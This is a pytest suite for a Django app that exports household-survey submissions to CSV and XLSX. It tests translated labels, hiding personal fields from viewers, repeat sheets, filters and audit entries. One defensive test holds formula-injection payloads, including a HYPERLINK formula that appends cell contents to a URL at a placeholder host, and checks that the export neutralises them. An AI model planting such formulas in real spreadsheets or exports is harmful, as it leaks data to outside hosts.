"""Exporting a form's submissions: labels in a chosen language, personal fields, repeats, filters."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
import zipfile
from xml.sax.saxutils import escape

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from openpyxl import load_workbook

from mobility.collection.exports import (
    EXPORT_FORMAT_UNKNOWN,
    EXPORT_LANGUAGE_UNKNOWN,
    FILTER_INVALID,
    SubmissionFilter,
    submissions_export,
    submissions_filtered,
)
from mobility.collection.models import Submission
from mobility.collection.services import form_publish, submission_receive
from mobility.core.models import AuditEntry

from .forms import instance_xml, simple_xlsform, xlsform

pytestmark = pytest.mark.django_db

MARKER = "Marker-Kx93 Personal"
MEMBER_MARKER = "Membro-Qz71 Secret"
LABELS = ["label::English (en)", "label::Português (pt)"]


def members_xlsform() -> bytes:
    """A household form with a select_multiple, free text, and nested repeats holding a personal field."""
    return xlsform(
        [
            ["type", "name", *LABELS, "personal_data"],
            ["start", "start", "", "", ""],
            ["end", "end", "", "", ""],
            ["text", "respondent_name", "Respondent name", "Nome do respondente", "yes"],
            ["text", "admin2", "District", "Distrito", ""],
            ["select_multiple needs", "needs", "Needs", "Necessidades", ""],
            ["text", "comment", "Comment", "Comentário", ""],
            ["begin_repeat", "members", "Members", "Membros", ""],
            ["text", "member_name", "Member name", "Nome do membro", "yes"],
            ["integer", "age", "Age", "Idade", ""],
            ["begin_repeat", "illnesses", "Illnesses", "Doenças", ""],
            ["select_one yesno", "fever", "Fever?", "Febre?", ""],
            ["end_repeat", "", "", "", ""],
            ["end_repeat", "", "", "", ""],
        ],
        [
            ["list_name", "name", *LABELS],
            ["yesno", "yes", "Yes", "Sim"],
            ["yesno", "no", "No", "Não"],
            ["needs", "food", "Food", "Alimentos"],
            ["needs", "water", "Water", "Água"],
            ["needs", "shelter", "Shelter", "Abrigo"],
        ],
        {"form_id": "household_members", "form_title": "Household members", "version": "1"},
    )


def members_instance(
    instance_id: str, *, comment="Roof damaged", needs="food water", members=None, area="MZ0101"
):
    members = members if members is not None else [("Amina", 34, ["yes"]), (MEMBER_MARKER, 6, ["no", "yes"])]
    body = "".join(
        f"<members><member_name>{escape(n)}</member_name><age>{a}</age>"
        + "".join(f"<illnesses><fever>{f}</fever></illnesses>" for f in fevers)
        + "</members>"
        for n, a, fevers in members
    )
    return (
        f'<?xml version="1.0"?><data id="household_members" version="1">'
        f"<start>2026-11-20T09:00:00+02:00</start><end>2026-11-20T09:30:00+02:00</end>"
        f"<respondent_name>{MARKER}</respondent_name><admin2>{area}</admin2><needs>{needs}</needs>"
        f"<comment>{escape(comment)}</comment>{body}<meta><instanceID>{instance_id}</instanceID></meta></data>"
    ).encode()


@pytest.fixture
def household(operation, data_manager):
    return form_publish(
        operation=operation, data=simple_xlsform(), filename="household_visit.xlsx", by=data_manager
    ).form


@pytest.fixture
def members(operation, data_manager):
    return form_publish(
        operation=operation, data=members_xlsform(), filename="household_members.xlsx", by=data_manager
    ).form


def send(operation, raw, by=None, **kwargs):
    return submission_receive(operation=operation, raw=raw, by=by, **kwargs).submission


def content(result) -> bytes:
    data, _, _ = result
    return data if isinstance(data, bytes) else b"".join(data)


def read_csv(result) -> list[dict]:
    data = content(result)
    assert data.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def read_zip(result) -> dict[str, list[list[str]]]:
    archive = zipfile.ZipFile(io.BytesIO(content(result)))
    return {
        name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
        for name in archive.namelist()
    }


def main_file(files: dict) -> list[list[str]]:
    return next(rows for name, rows in files.items() if not name.endswith(("-members.csv", "-illnesses.csv")))


def read_xlsx(result) -> dict[str, list[list]]:
    wb = load_workbook(io.BytesIO(content(result)), read_only=True)
    return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}


def all_parts(result) -> bytes:
    archive = zipfile.ZipFile(io.BytesIO(content(result)))
    return b"".join(archive.read(name) for name in archive.namelist())


# ---------------------------------------------------------------- labels


@pytest.mark.parametrize(
    "language, headers, displaced",
    [
        ("English (en)", ["Displaced?", "People in household", "Location"], "Yes"),
        ("Português (pt)", ["Deslocado?", "Pessoas no agregado", "Localização"], "Sim"),
        ("pt", ["Deslocado?", "Pessoas no agregado", "Localização"], "Sim"),
        (None, ["Displaced?", "People in household", "Location"], "Yes"),
        ("name", ["displaced", "people", "gps"], "yes"),
    ],
)
def test_headers_and_choices_in_the_chosen_language(
    operation, household, viewer, enumerator, language, headers, displaced
):
    send(operation, instance_xml("uuid:l-1", people=4), by=enumerator)
    result = submissions_export(form=household, user=viewer, fmt="csv", language=language)
    rows = read_csv(result)
    assert list(rows[0])[:5] == ["instance_id", "submitted_at", "enumerator", "status", "flags"]
    assert list(rows[0])[5:] == ["start", "end", *headers]
    assert rows[0][headers[0]] == displaced and rows[0][headers[1]] == "4"
    assert rows[0]["instance_id"] == "uuid:l-1" and rows[0]["enumerator"] == "enum"
    assert result[1] == "text/csv; charset=utf-8" and result[2].endswith(".csv")


def test_xlsx_has_the_same_labels_and_numbers_as_numbers(operation, household, viewer):
    send(operation, instance_xml("uuid:x-1", people=7))
    sheets = read_xlsx(submissions_export(form=household, user=viewer, fmt="xlsx", language="Português (pt)"))
    header, row = sheets["submissions"]
    assert header[5:] == ["start", "end", "Deslocado?", "Pessoas no agregado", "Localização"]
    assert row[7:9] == ["Sim", 7]


def test_an_unknown_language_or_format_is_refused(household, viewer):
    with pytest.raises(ValidationError) as info:
        submissions_export(form=household, user=viewer, fmt="csv", language="fr")
    assert info.value.messages == [
        EXPORT_LANGUAGE_UNKNOWN.format(language="fr", choices="English (en), Português (pt)")
    ]
    with pytest.raises(ValidationError) as info:
        submissions_export(form=household, user=viewer, fmt="pdf", language=None)
    assert info.value.messages == [EXPORT_FORMAT_UNKNOWN.format(fmt="pdf")]


# ---------------------------------------------------------------- personal data


def test_personal_field_absent_for_a_viewer_present_for_a_data_manager(
    operation, household, viewer, data_manager
):
    send(operation, instance_xml("uuid:p-1", name=MARKER))
    viewer_csv = content(submissions_export(form=household, user=viewer, fmt="csv", language="en"))
    manager_csv = content(submissions_export(form=household, user=data_manager, fmt="csv", language="en"))
    assert MARKER.encode() not in viewer_csv and b"Respondent name" not in viewer_csv
    manager_rows = list(csv.DictReader(io.StringIO(manager_csv.decode("utf-8-sig"))))
    assert manager_rows[0]["Respondent name"] == MARKER


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_personal_marker_never_reaches_a_viewer(operation, members, viewer, data_manager, fmt):
    send(operation, members_instance("uuid:m-1"))
    viewer_export = submissions_export(form=members, user=viewer, fmt=fmt, language="English (en)")
    manager_export = submissions_export(form=members, user=data_manager, fmt=fmt, language="English (en)")
    # Both are zips (XLSX, and CSV of a form with repeats): search every file inside, unzipped.
    viewer_bytes, manager_bytes = all_parts(viewer_export), all_parts(manager_export)
    for marker in (MARKER, MEMBER_MARKER):
        assert marker.encode() not in viewer_bytes
        assert marker.encode() in manager_bytes  # the check above can fail: the marker is exportable
    assert b"Member name" not in viewer_bytes and b"Member name" in manager_bytes


def test_questions_in_a_repeat_marked_personal_are_left_out(operation, members, viewer):
    version = members.current_version
    version.fields = [{**f, "personal": True} if f["path"] == "members" else f for f in version.fields]
    version.save()
    send(operation, members_instance("uuid:pr-1"))
    sheets = read_xlsx(submissions_export(form=members, user=viewer, fmt="xlsx", language="en"))
    assert sheets["members"][0] == ["instance_id", "parent_key", "key"]
    assert sheets["illnesses"][0] == ["instance_id", "parent_key", "key"]


def test_the_export_is_audited_without_values(operation, household, viewer, enumerator):
    send(operation, instance_xml("uuid:a-1", name=MARKER), by=enumerator)
    submissions_export(form=household, user=viewer, fmt="csv", language="pt", filters={"enumerator": "enum"})
    entry = AuditEntry.objects.get(action="collection.submissions_export")
    assert entry.user == viewer and entry.object_id == str(household.pk)
    assert entry.detail == {
        "format": "csv",
        "language": "Português (pt)",
        "rows": 1,
        "personal_included": False,
        "filters": ["enumerator"],
    }


def test_only_members_of_the_operation_may_export(household, outsider, viewer):
    with pytest.raises(PermissionDenied):
        submissions_export(form=household, user=outsider, fmt="csv", language=None)
    submissions_export(form=household, user=viewer, fmt="csv", language=None)


# ---------------------------------------------------------------- repeats and selects


def test_repeats_are_sheets_with_keys_in_xlsx(operation, members, data_manager):
    send(operation, members_instance("uuid:r-1"))
    send(operation, members_instance("uuid:r-2", members=[("Solo", 40, [])]))
    sheets = read_xlsx(submissions_export(form=members, user=data_manager, fmt="xlsx", language="pt"))
    assert list(sheets) == ["submissions", "members", "illnesses"]
    main = sheets["submissions"]
    assert main[0][5:] == ["start", "end", "Nome do respondente", "Distrito", "Necessidades", "Comentário"]
    assert main[1][9] == "Alimentos; Água"
    assert sheets["members"] == [
        ["instance_id", "parent_key", "key", "Nome do membro", "Idade"],
        ["uuid:r-1", "uuid:r-1", "uuid:r-1/members[1]", "Amina", 34],
        ["uuid:r-1", "uuid:r-1", "uuid:r-1/members[2]", MEMBER_MARKER, 6],
        ["uuid:r-2", "uuid:r-2", "uuid:r-2/members[1]", "Solo", 40],  # one entry: still a repeat row
    ]
    assert sheets["illnesses"] == [
        ["instance_id", "parent_key", "key", "Febre?"],
        ["uuid:r-1", "uuid:r-1/members[1]", "uuid:r-1/members[1]/illnesses[1]", "Sim"],
        ["uuid:r-1", "uuid:r-1/members[2]", "uuid:r-1/members[2]/illnesses[1]", "Não"],
        ["uuid:r-1", "uuid:r-1/members[2]", "uuid:r-1/members[2]/illnesses[2]", "Sim"],
    ]


def test_repeats_in_csv_are_a_zip_of_csv_files(operation, members, viewer):
    send(operation, members_instance("uuid:z-1"))
    result = submissions_export(form=members, user=viewer, fmt="csv", language="English (en)")
    assert result[1] == "application/zip" and result[2].endswith("-csv.zip")
    files = read_zip(result)
    base = result[2].removesuffix("-csv.zip")
    assert sorted(files) == sorted([f"{base}.csv", f"{base}-members.csv", f"{base}-illnesses.csv"])
    assert files[f"{base}-members.csv"] == [
        ["instance_id", "parent_key", "key", "Age"],
        ["uuid:z-1", "uuid:z-1", "uuid:z-1/members[1]", "34"],
        ["uuid:z-1", "uuid:z-1", "uuid:z-1/members[2]", "6"],
    ]
    assert files[f"{base}.csv"][1][-2:] == ["Food; Water", "Roof damaged"]


def test_name_headers_give_paths_and_raw_values(operation, members, viewer):
    send(operation, members_instance("uuid:n-1"))
    main = main_file(read_zip(submissions_export(form=members, user=viewer, fmt="csv", language="name")))
    assert main[0][5:] == ["start", "end", "admin2", "needs", "comment"]
    assert main[1][-2:] == ["food water", "Roof damaged"]


# ---------------------------------------------------------------- filters


@pytest.fixture
def varied(operation, household, enumerator):
    day = dt.datetime(2026, 11, 20, 12, tzinfo=dt.UTC)
    raws = {
        "uuid:f-1": instance_xml("uuid:f-1", people=1),
        "uuid:f-2": instance_xml("uuid:f-2", people=2, end="2026-11-20T09:01:00.000+02:00"),  # too short
        "uuid:f-3": instance_xml("uuid:f-3", people=3),
    }
    send(operation, raws["uuid:f-1"], by=enumerator, submitted_at=day)
    send(operation, raws["uuid:f-2"], enumerator="kobo_user", submitted_at=day + dt.timedelta(days=1))
    send(operation, raws["uuid:f-3"], by=enumerator, submitted_at=day + dt.timedelta(days=2))
    Submission.objects.filter(instance_id="uuid:f-1").update(area_code="MZ0101", status="processed")
    Submission.objects.filter(instance_id="uuid:f-3").update(area_code="MZ0205")
    return household


FILTER_TABLE = [
    ({}, ["uuid:f-3", "uuid:f-2", "uuid:f-1"]),
    ({"date_from": "2026-11-21"}, ["uuid:f-3", "uuid:f-2"]),
    ({"date_to": "2026-11-21"}, ["uuid:f-2", "uuid:f-1"]),
    ({"date_from": dt.date(2026, 11, 21), "date_to": dt.date(2026, 11, 21)}, ["uuid:f-2"]),
    ({"enumerator": "enum"}, ["uuid:f-3", "uuid:f-1"]),
    ({"area_code": "MZ01"}, ["uuid:f-1"]),
    ({"area_code": "MZ0205"}, ["uuid:f-3"]),
    ({"status": "processed"}, ["uuid:f-1"]),
    ({"flag": "too_short"}, ["uuid:f-2"]),
    ({"flag": "any"}, ["uuid:f-2"]),
    ({"flag": "none"}, ["uuid:f-3", "uuid:f-1"]),
    ({"flag": "outlier"}, []),
    ({"enumerator": "", "area_code": "  ", "page": "2"}, ["uuid:f-3", "uuid:f-2", "uuid:f-1"]),
]


def test_filters(varied):
    # One form for the whole table (publishing an XLSForm is the slow part of each case).
    for filters, expected in FILTER_TABLE:
        found = list(submissions_filtered(varied, filters).values_list("instance_id", flat=True))
        assert found == expected, filters


def test_the_export_uses_the_same_filters(varied, viewer):
    rows = read_csv(
        submissions_export(form=varied, user=viewer, fmt="csv", language=None, filters={"flag": "too_short"})
    )
    assert [r["instance_id"] for r in rows] == ["uuid:f-2"]
    assert rows[0]["flags"] == "too_short" and rows[0]["enumerator"] == "kobo_user"


@pytest.mark.parametrize(
    "filters, field",
    [
        ({"date_from": "20-11-2026"}, "date_from"),
        ({"status": "lost"}, "status"),
        ({"flag": "Too Short!"}, "flag"),
        ({"date_from": "2026-11-22", "date_to": "2026-11-20"}, "filters"),
    ],
)
def test_a_bad_filter_names_the_field(varied, filters, field):
    with pytest.raises(ValueError, match=f"^{field}: ") as info:
        submissions_filtered(varied, filters)
    assert str(info.value).startswith(FILTER_INVALID.split(":")[0].format(field=field))


def test_superseded_versions_only_when_asked(operation, household, viewer):
    send(operation, instance_xml("uuid:s-1", people=4))
    send(operation, instance_xml("uuid:s-2", people=5, deprecated="uuid:s-1"))
    current = read_csv(submissions_export(form=household, user=viewer, fmt="csv", language=None))
    everything = read_csv(
        submissions_export(
            form=household, user=viewer, fmt="csv", language=None, filters={"include_superseded": True}
        )
    )
    assert [r["instance_id"] for r in current] == ["uuid:s-2"]
    assert sorted((r["instance_id"], r["status"]) for r in everything) == [
        ("uuid:s-1", "superseded"),
        ("uuid:s-2", "received"),
    ]
    assert (
        submissions_filtered(household, SubmissionFilter(status="superseded")).get().instance_id == "uuid:s-1"
    )


# ---------------------------------------------------------------- formula injection


def test_formulas_are_neutralised_in_csv_and_xlsx(operation, members, data_manager):
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    send(operation, members_instance("uuid:i-1", comment=evil, members=[("@SUM(1+1)", -3, [])]))
    files = read_zip(submissions_export(form=members, user=data_manager, fmt="csv", language="en"))
    main = main_file(files)
    members_rows = next(rows for name, rows in files.items() if name.endswith("-members.csv"))
    assert main[1][-1] == "'" + evil
    assert members_rows[1][-2:] == ["'@SUM(1+1)", "-3"]  # a negative number stays a number
    sheets = read_xlsx(submissions_export(form=members, user=data_manager, fmt="xlsx", language="en"))
    assert sheets["submissions"][1][-1] == "'" + evil
    assert sheets["members"][1][-2:] == ["'@SUM(1+1)", -3]


# ---------------------------------------------------------------- size


@pytest.mark.heavy
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ten_thousand_rows(operation, household, viewer, fmt):
    """Export time of 10,000 submissions (printed, not asserted)."""
    version = household.current_version
    now = dt.datetime(2026, 11, 20, 9, tzinfo=dt.UTC)
    Submission.objects.bulk_create(
        [
            Submission(
                form=household,
                form_version=version,
                instance_id=f"uuid:big-{i}",
                root_id=f"uuid:big-{i}",
                raw=b"",
                raw_sha256="0" * 64,
                content_sha256=f"{i:064d}",
                submitted_at=now + dt.timedelta(seconds=i),
                enumerator="enum",
                data={
                    "start": "2026-11-20T09:00:00.000+02:00",
                    "end": "2026-11-20T09:20:00.000+02:00",
                    "respondent_name": MARKER,
                    "displaced": "yes" if i % 3 else "no",
                    "people": str(1 + i % 12),
                    "gps": "-12.97 40.52 0 5",
                },
            )
            for i in range(10_000)
        ],
        batch_size=1000,
    )
    started = time.perf_counter()
    data = content(submissions_export(form=household, user=viewer, fmt=fmt, language="Português (pt)"))
    took = time.perf_counter() - started
    print(f"\n{fmt} export of 10,000 submissions: {took:.2f} s, {len(data) / 2**20:.1f} MB")
    assert MARKER.encode() not in data
